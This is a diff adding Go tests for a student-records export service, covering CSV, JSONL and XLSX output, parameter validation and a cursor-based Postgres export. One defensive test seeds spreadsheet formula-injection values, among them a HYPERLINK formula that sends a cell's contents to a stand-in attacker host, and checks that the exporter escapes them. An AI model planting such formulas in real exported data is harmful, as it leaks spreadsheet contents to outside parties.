@@ -0,0 +1,144 @@
+package internal
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+
+	"github.com/DATA-DOG/go-sqlmock"
+	"github.com/gin-gonic/gin"
+	"github.com/stretchr/testify/assert"
+	"github.com/xuri/excelize/v2"
+)
+
+func exportRequest(h gin.HandlerFunc, rawQuery string) *httptest.ResponseRecorder {
+	gin.SetMode(gin.TestMode)
+	r := gin.New()
+	r.GET("/export", h)
+	w := httptest.NewRecorder()
+	req, _ := http.NewRequest(http.MethodGet, "/export?"+rawQuery, nil)
+	r.ServeHTTP(w, req)
+	return w
+}
+
+func seededExportHandler(t *testing.T) *Handler {
+	t.Helper()
+	h, repos := newMemoryHandler(t)
+	ctx := context.Background()
+	for _, s := range []Student{
+		{Name: "Bob", Age: 22, Email: "bob@example.com"},
+		{Name: "Alice", Age: 20, Email: "alice@example.com"},
+		{Name: "Eve", Age: 30, Email: "eve@other.org"},
+	} {
+		_, err := repos.Students.Create(ctx, s)
+		assert.NoError(t, err)
+	}
+	studentID := 2
+	_, _ = repos.Users.Create(ctx, User{Name: "Alice", Email: "alice@example.com", Role: RoleStudent, StudentID: &studentID}, "")
+	_, _ = repos.Users.Create(ctx, User{Name: "Root", Email: "root@example.com", Role: RoleAdmin}, "")
+	return h
+}
+
+func TestExportStudentsCSVHonoursFilters(t *testing.T) {
+	h := seededExportHandler(t)
+
+	w := exportRequest(h.ExportStudents, "email_domain=example.com&sort=name")
+	assert.Equal(t, http.StatusOK, w.Code)
+	assert.Equal(t, "text/csv; charset=utf-8", w.Header().Get("Content-Type"))
+	assert.Regexp(t, `^attachment; filename=students-\d{8}T\d{6}Z\.csv$`, w.Header().Get("Content-Disposition"))
+	assert.Equal(t, "id,name,age,email\n2,Alice,20,alice@example.com\n1,Bob,22,bob@example.com\n", w.Body.String())
+}
+
+func TestExportStudentsCSVEscapesFormulas(t *testing.T) {
+	h, repos := newMemoryHandler(t)
+	for _, s := range []Student{
+		{Name: `=HYPERLINK("http://evil.example/?x="&A1,"Click")`, Age: 20, Email: "a@example.com"},
+		{Name: "@SUM(1+1)", Age: 21, Email: "+b@example.com"},
+		{Name: "-2+3", Age: 22, Email: "c@example.com"},
+		{Name: "Jane = Doe", Age: 23, Email: "d@example.com"},
+	} {
+		_, err := repos.Students.Create(context.Background(), s)
+		assert.NoError(t, err)
+	}
+
+	w := exportRequest(h.ExportStudents, "sort=id")
+	assert.Equal(t, http.StatusOK, w.Code)
+	assert.Equal(t, "id,name,age,email\n"+
+		`1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",20,a@example.com`+"\n"+
+		"2,'@SUM(1+1),21,'+b@example.com\n"+
+		"3,'-2+3,22,c@example.com\n"+
+		"4,Jane = Doe,23,d@example.com\n", w.Body.String())
+}
+
+func TestExportStudentsJSONLines(t *testing.T) {
+	h := seededExportHandler(t)
+
+	w := exportRequest(h.ExportStudents, "format=jsonl&sort=-age")
+	assert.Equal(t, http.StatusOK, w.Code)
+	lines := strings.Split(strings.TrimSpace(w.Body.String()), "\n")
+	assert.Len(t, lines, 3)
+	var first Student
+	assert.NoError(t, json.Unmarshal([]byte(lines[0]), &first))
+	assert.Equal(t, "Eve", first.Name)
+}
+
+func TestExportUsersXLSX(t *testing.T) {
+	h := seededExportHandler(t)
+
+	w := exportRequest(h.ExportUsers, "format=xlsx")
+	assert.Equal(t, http.StatusOK, w.Code)
+	assert.Contains(t, w.Header().Get("Content-Disposition"), ".xlsx")
+
+	f, err := excelize.OpenReader(bytes.NewReader(w.Body.Bytes()))
+	assert.NoError(t, err)
+	defer f.Close()
+	rows, err := f.GetRows("Sheet1")
+	assert.NoError(t, err)
+	assert.Equal(t, [][]string{
+		{"id", "name", "email", "role", "student_id"},
+		{"1", "Alice", "alice@example.com", "student", "2"},
+		{"2", "Root", "root@example.com", "admin"},
+	}, rows)
+}
+
+func TestExportRejectsBadParameters(t *testing.T) {
+	h := seededExportHandler(t)
+
+	assert.Equal(t, http.StatusBadRequest, exportRequest(h.ExportStudents, "format=pdf").Code)
+	assert.Equal(t, http.StatusBadRequest, exportRequest(h.ExportStudents, "sort=password").Code)
+	assert.Equal(t, http.StatusBadRequest, exportRequest(h.ExportUsers, "role=janitor").Code)
+}
+
+func TestPostgresExportFetchesFromCursor(t *testing.T) {
+	mockDB, mock, err := sqlmock.New()
+	assert.NoError(t, err)
+	defer mockDB.Close()
+	repo := NewPostgresRepositories(&Db{db: mockDB}).Students
+
+	cols := []string{"id", "name", "age", "email", "deleted_at", "version"}
+	full := sqlmock.NewRows(cols)
+	for i := 1; i <= exportBatchSize; i++ {
+		full.AddRow(i, "Student", 20, "s@example.com", nil, 1)
+	}
+	mock.ExpectBegin()
+	mock.ExpectExec(`DECLARE export_cursor NO SCROLL CURSOR FOR SELECT id, name, age, email, deleted_at, version FROM students WHERE age >= \$1 AND deleted_at IS NULL ORDER BY name ASC, id ASC`).
+		WithArgs(18).
+		WillReturnResult(sqlmock.NewResult(0, 0))
+	mock.ExpectQuery("FETCH 500 FROM export_cursor").WillReturnRows(full)
+	mock.ExpectQuery("FETCH 500 FROM export_cursor").WillReturnRows(sqlmock.NewRows(cols).AddRow(501, "Last", 21, "l@example.com", nil, 1))
+	mock.ExpectCommit()
+
+	minAge := 18
+	n := 0
+	err = repo.Export(context.Background(), StudentFilter{MinAge: &minAge}, []SortField{{Column: "name"}, {Column: "id"}}, func(Student) error {
+		n++
+		return nil
+	})
+	assert.NoError(t, err)
+	assert.Equal(t, exportBatchSize+1, n)
+	assert.NoError(t, mock.ExpectationsWereMet())
+}